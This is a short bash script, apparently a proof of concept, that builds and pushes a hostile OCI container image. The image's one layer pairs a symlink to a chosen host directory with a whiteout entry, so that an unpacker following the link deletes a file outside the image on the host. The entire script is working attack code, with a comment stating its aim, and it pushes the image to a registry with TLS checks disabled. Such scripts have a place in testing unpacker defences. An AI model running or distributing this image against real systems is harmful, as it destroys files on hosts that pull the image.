#!/usr/bin/env bash
# Builds an image whose one layer attacks the host that unpacks it, and
# pushes it: hostile.sh REGISTRY[:PORT] TARGET_DIR. The layer holds a
# symlink `x` to TARGET_DIR, then a whiteout `x/.wh.victim`: an unpacker
# that follows the link deletes TARGET_DIR/victim (and makes a device node
# in its place). Needs umoci, skopeo and GNU tar.
set -euo pipefail
registry="$1"
target="$2"
work="$(mktemp -d)"
trap 'rm -rf "$work"' EXIT

mkdir -p "$work/link" "$work/whiteout/x"
ln -s "$target" "$work/link/x"
: >"$work/whiteout/x/.wh.victim"
tar -C "$work/link" -cf "$work/layer.tar" x
tar -C "$work/whiteout" -rf "$work/layer.tar" x/.wh.victim

umoci init --layout "$work/layout"
umoci new --image "$work/layout:1"
umoci raw add-layer --image "$work/layout:1" "$work/layer.tar"
umoci config --image "$work/layout:1" --config.cmd sh >/dev/null
skopeo copy --quiet --dest-tls-verify=false "oci:$work/layout:1" "docker://$registry/hostile:1"
